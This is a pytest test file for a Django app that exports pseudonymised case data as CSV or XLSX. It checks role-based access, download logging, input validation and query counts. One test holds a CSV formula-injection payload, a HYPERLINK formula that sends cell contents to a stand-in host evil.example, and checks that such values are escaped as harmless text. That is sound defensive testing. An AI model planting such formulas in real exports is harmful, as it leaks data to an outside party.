"""Downloading the data return as CSV or XLSX: only the chosen panels' cases, no name, address, reference or free
text, formulas made harmless, every download logged, bad input answered with a message, and a query count that
does not grow with the cases."""

import csv
import datetime
import io

import pytest
from django.conf import settings
from django.db import connection
from django.test.utils import CaptureQueriesContext
from django.urls import reverse

from nrm_panel.models import Role
from reporting.data_return import COLUMN_NAMES, COLUMNS, pseudonymous_id
from reporting.models import ReportExport
from tests.decisions import conftest as decision_fixtures
from tests.factories import SubmittedReferralFactory, UserFactory, member
from tests.reporting.data_return_world import MARKERS, build_world, xlsx_sheets

pytestmark = pytest.mark.django_db

sitting, steps = decision_fixtures.sitting, decision_fixtures.steps

XLSX_TYPE = "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"


def _days(*isoformats):
    return [datetime.date.fromisoformat(each) for each in isoformats]


@pytest.fixture
def world(sitting, steps, other_panel):
    return build_world(sitting, steps, other_panel)


def query(date_from, date_to, **extra) -> dict:
    return {
        "date_from_0": date_from.day,
        "date_from_1": date_from.month,
        "date_from_2": date_from.year,
        "date_to_0": date_to.day,
        "date_to_1": date_to.month,
        "date_to_2": date_to.year,
        **extra,
    }


def download(client, fmt, params):
    return client.get(reverse("reporting:data_return", args=[fmt]), params)


def body(response) -> bytes:
    return b"".join(response.streaming_content)


def csv_rows(response) -> list[list[str]]:
    assert response.status_code == 200, response.content.decode()[:2000]
    assert response["Content-Type"] == "text/csv; charset=utf-8"
    return list(csv.reader(io.StringIO(body(response).decode())))


def xlsx_of(response) -> dict:
    assert response.status_code == 200
    assert response["Content-Type"] == XLSX_TYPE
    return xlsx_sheets(body(response))


def forbidden_texts(world) -> list[str]:
    """What would name or place a child, or say what they or the panel wrote."""
    every_case = [*world.cases.values(), *world.left_out.values()]
    return [*MARKERS, *world.references, *(str(case.public_id) for case in every_case), "Atlantean"]


# --- What the files hold -----------------------------------------------------------------------------------


def test_the_csv_holds_every_case_of_the_panel_and_no_name_address_reference_or_free_text(world, login, coordinator):
    response = download(login(coordinator), "csv", query(world.date_from, world.date_to))
    text = body(response).decode()
    rows = list(csv.reader(io.StringIO(text)))

    assert rows[0] == COLUMN_NAMES
    assert {row[0] for row in rows[1:]} == {pseudonymous_id(case.public_id) for case in world.cases.values()}
    assert len(rows) == len(world.cases) + 1
    for forbidden in forbidden_texts(world):
        assert forbidden not in text, forbidden
    assert "SECRET-" not in text.upper()


def test_the_xlsx_holds_the_same_rows_a_dictionary_sheet_and_no_name_address_or_free_text(world, login, coordinator):
    client = login(coordinator)
    params = query(world.date_from, world.date_to)
    from_csv = csv_rows(download(client, "csv", params))

    sheets = xlsx_of(download(client, "xlsx", params))

    assert [name for name in sheets if name != "_parts"] == ["Data return", "Data dictionary"]
    assert [[str(cell) for cell in row] for row in sheets["Data return"]] == from_csv
    assert sheets["Data dictionary"] == [["column", "description"], *([c.name, c.description] for c in COLUMNS)]
    parts = sheets["_parts"]
    assert 'state="frozen"' in parts["xl/worksheets/sheet1.xml"]
    assert "<b/>" in parts["xl/styles.xml"]
    everything = "".join(parts.values())
    for forbidden in forbidden_texts(world):
        assert forbidden not in everything, forbidden
    assert "SECRET-" not in everything.upper()


def test_numbers_are_numbers_in_the_xlsx(world, login, coordinator):
    sheets = xlsx_of(download(login(coordinator), "xlsx", query(world.date_from, world.date_to)))
    days_to_rg = COLUMN_NAMES.index("days_to_rg")
    decided = pseudonymous_id(world.cases["decided"].public_id)

    [row] = [row for row in sheets["Data return"] if row[0] == decided]
    assert row[days_to_rg] == 20


def test_the_pseudonymous_id_is_the_same_in_two_exports_and_differs_between_cases(world, login, coordinator):
    client = login(coordinator)
    params = query(world.date_from, world.date_to)

    first = [row[0] for row in csv_rows(download(client, "csv", params))[1:]]
    second = [row[0] for row in csv_rows(download(client, "csv", params))[1:]]

    assert first == second
    assert len(set(first)) == len(first) == len(world.cases)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_a_formula_typed_into_a_field_arrives_as_harmless_text(panel, login, coordinator, fmt):
    hyperlink = '=HYPERLINK("http://evil.example/?leak="&A1,"Click")'
    SubmittedReferralFactory(panel=panel, nationality=hyperlink, second_nationality="@SUM(1+1)")
    SubmittedReferralFactory(panel=panel, nationality="+44", second_nationality="-1")
    SubmittedReferralFactory(panel=panel, nationality="\tTab", second_nationality="\rReturn")
    response = download(login(coordinator), fmt, {})

    if fmt == "csv":
        rows = csv_rows(response)[1:]
    else:
        sheets = xlsx_of(response)
        assert "<f>" not in sheets["_parts"]["xl/worksheets/sheet1.xml"]
        rows = sheets["Data return"][1:]
    nationality = COLUMN_NAMES.index("nationality")
    cells = {cell for row in rows for cell in row[nationality : nationality + 2]}
    assert cells == {"'" + value for value in (hyperlink, "@SUM(1+1)", "+44", "-1", "\tTab", "\rReturn")}


def test_the_files_are_named_for_the_panel_and_dates_and_never_cached(panel, login, coordinator):
    SubmittedReferralFactory(panel=panel)
    client = login(coordinator)
    params = query(*_days("2026-01-01", "2026-03-31"))

    for fmt in ("csv", "xlsx"):
        response = download(client, fmt, params)
        body(response)
        assert response["Cache-Control"] == "private, no-store"
        assert f'filename="nrm-data-return-LEW-2026-01-01-2026-03-31.{fmt}"' in response["Content-Disposition"]
        assert response["Content-Disposition"].startswith("attachment")


# --- Whose cases -------------------------------------------------------------------------------------------


def test_the_other_panels_chair_gets_only_their_own_case_never_ours(world, login, other_panel):
    theirs = world.left_out["other_panel"]
    their_chair = member(other_panel, Role.CHAIR)

    rows = csv_rows(download(login(their_chair), "csv", query(world.date_from, world.date_to)))[1:]

    assert [row[0] for row in rows] == [pseudonymous_id(theirs.public_id)]
    assert ReportExport.objects.get().row_count == 1


def test_a_coordinator_of_two_panels_gets_the_panel_they_choose_or_both(world, login, coordinator, panel, other_panel):
    member(other_panel, Role.COORDINATOR, user=coordinator)
    client = login(coordinator)
    theirs = pseudonymous_id(world.left_out["other_panel"].public_id)
    dates = query(world.date_from, world.date_to)

    one = download(client, "csv", {**dates, "panel": panel.pk})
    assert "LEW-" in one["Content-Disposition"]
    only_ours = csv_rows(one)[1:]
    assert {row[1] for row in only_ours} == {"LEW"}
    assert theirs not in {row[0] for row in only_ours}
    just_theirs = csv_rows(download(client, "csv", {**dates, "panel": other_panel.pk}))[1:]
    assert [row[0] for row in just_theirs] == [theirs]
    both = download(client, "csv", {**dates, "panel": "all"})
    assert "all-panels" in both["Content-Disposition"]
    assert len(csv_rows(both)) == len(world.cases) + 2

    exports = list(ReportExport.objects.order_by("id"))
    assert [sorted(e.panel_ids) for e in exports] == [[panel.pk], [other_panel.pk], sorted([panel.pk, other_panel.pk])]


def test_all_my_panels_means_the_one_panel_of_someone_with_one(panel, login, coordinator):
    SubmittedReferralFactory(panel=panel)

    response = download(login(coordinator), "csv", {"panel": "all"})

    assert len(csv_rows(response)) == 2
    assert "-LEW-" in response["Content-Disposition"]


# --- Who may download --------------------------------------------------------------------------------------

ALLOWED = {Role.COORDINATOR, Role.CHAIR, Role.AUDITOR}


@pytest.mark.parametrize("role", list(Role))
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_coordinator_chair_and_auditor_may_download_and_no_one_else(panel, people, login, role, fmt):
    SubmittedReferralFactory(panel=panel)

    response = download(login(people[role]), fmt, {})

    assert response.status_code == (200 if role in ALLOWED else 403)
    assert ReportExport.objects.count() == (1 if role in ALLOWED else 0)


def test_an_instance_administrator_downloads_only_the_panels_where_they_hold_a_reporting_role(
    panel, other_panel, login
):
    administrator = UserFactory(is_superuser=True, is_staff=True)
    SubmittedReferralFactory(panel=panel)
    SubmittedReferralFactory(panel=other_panel)

    assert download(login(administrator), "csv", {}).status_code == 403
    assert download(login(administrator), "csv", {"panel": other_panel.pk}).status_code == 403

    member(other_panel, Role.AUDITOR, user=administrator)
    response = download(login(administrator), "csv", {"panel": "all"})
    assert {row[1] for row in csv_rows(response)[1:]} == {"OTH"}
    assert ReportExport.objects.get().panel_ids == [other_panel.pk]


@pytest.mark.parametrize("name", ["reporting:data_return", "reporting:data_dictionary"])
def test_someone_signed_out_is_sent_to_sign_in(client, panel, name):
    url = reverse(name, args=["csv"]) if name == "reporting:data_return" else reverse(name)

    response = client.get(url)

    assert response.status_code == 302
    assert response["Location"].startswith(reverse(settings.LOGIN_URL))
    assert not ReportExport.objects.exists()


@pytest.mark.parametrize("role", list(Role))
def test_the_data_dictionary_lists_every_column_for_those_who_report(people, login, role):
    response = login(people[role]).get(reverse("reporting:data_dictionary"))

    if role not in ALLOWED:
        assert response.status_code == 403
        return
    assert response.status_code == 200
    assert response["Cache-Control"] == "private, no-store"
    rows = list(csv.reader(io.StringIO(response.content.decode())))
    assert rows == [["column", "description"], *([c.name, c.description] for c in COLUMNS)]


# --- Bad input ---------------------------------------------------------------------------------------------


def test_a_format_other_than_csv_or_xlsx_is_not_found(login, coordinator):
    for fmt in ("pdf", "json", "CSV"):
        assert download(login(coordinator), fmt, {}).status_code == 404
    assert not ReportExport.objects.exists()


@pytest.mark.parametrize(
    ("params", "message"),
    [
        (query(*_days("2026-03-10", "2026-03-01")), "The end date must be the same as or after the start date"),
        ({"date_from_0": "31", "date_from_1": "2", "date_from_2": "2026"}, "Enter a real date"),
        ({"date_to_0": "1", "date_to_1": "1", "date_to_2": "9" * 20}, "Enter a real date"),
        ({"date_to_0": "1", "date_to_1": "1", "date_to_2": "10000"}, "Enter a real date"),
        ({"date_from_0": "first", "date_from_1": "May", "date_from_2": "2026"}, "Enter a valid month."),
        (query(*_days("2000-01-01", "2026-01-01")), "Choose a range of 10 years or less"),
        ({"panel": "all-of-them"}, "Select one of the answers shown for “Panel”"),
    ],
)
@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_bad_input_is_answered_with_a_message_and_nothing_is_exported(panel, login, coordinator, params, message, fmt):
    SubmittedReferralFactory(panel=panel)

    response = download(login(coordinator), fmt, params)

    assert response.status_code == 400
    assert message in response.content.decode()
    assert reverse("reporting:dashboard") in response.content.decode()
    assert not ReportExport.objects.exists()


def test_a_panel_that_is_not_theirs_is_refused(panel, other_panel, login, coordinator):
    SubmittedReferralFactory(panel=other_panel, nationality="Atlantean")

    response = download(login(coordinator), "csv", {"panel": other_panel.pk})

    assert response.status_code == 400
    assert "Select one of the answers shown for “Panel”" in response.content.decode()
    assert "Atlantean" not in response.content.decode()
    assert not ReportExport.objects.exists()


# --- The log -----------------------------------------------------------------------------------------------


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_each_download_is_logged_once_with_who_what_and_how_many(world, login, coordinator, panel, fmt):
    response = download(login(coordinator), fmt, query(world.date_from, world.date_to))
    body(response)

    export = ReportExport.objects.get()
    assert export.exported_by == coordinator
    assert (export.date_from, export.date_to) == (world.date_from, world.date_to)
    assert export.panel_ids == [panel.pk]
    assert export.format == fmt
    assert export.row_count == len(world.cases)
    assert export.exported_at is not None


# --- Query count -------------------------------------------------------------------------------------------


def _queries(client, fmt) -> int:
    body(download(client, fmt, {}))  # warm the once-per-process caches
    with CaptureQueriesContext(connection) as captured:
        response = download(client, fmt, {})
        body(response)
    assert response.status_code == 200
    return len(captured)


@pytest.mark.parametrize("fmt", ["csv", "xlsx"])
def test_the_query_count_is_the_same_for_1_and_20_cases(panel, login, coordinator, fmt):
    client = login(coordinator)
    SubmittedReferralFactory(panel=panel)
    with_one = _queries(client, fmt)

    SubmittedReferralFactory.create_batch(19, panel=panel)
    with_twenty = _queries(client, fmt)

    assert with_one == with_twenty
    assert ReportExport.objects.order_by("-id").first().row_count == 20
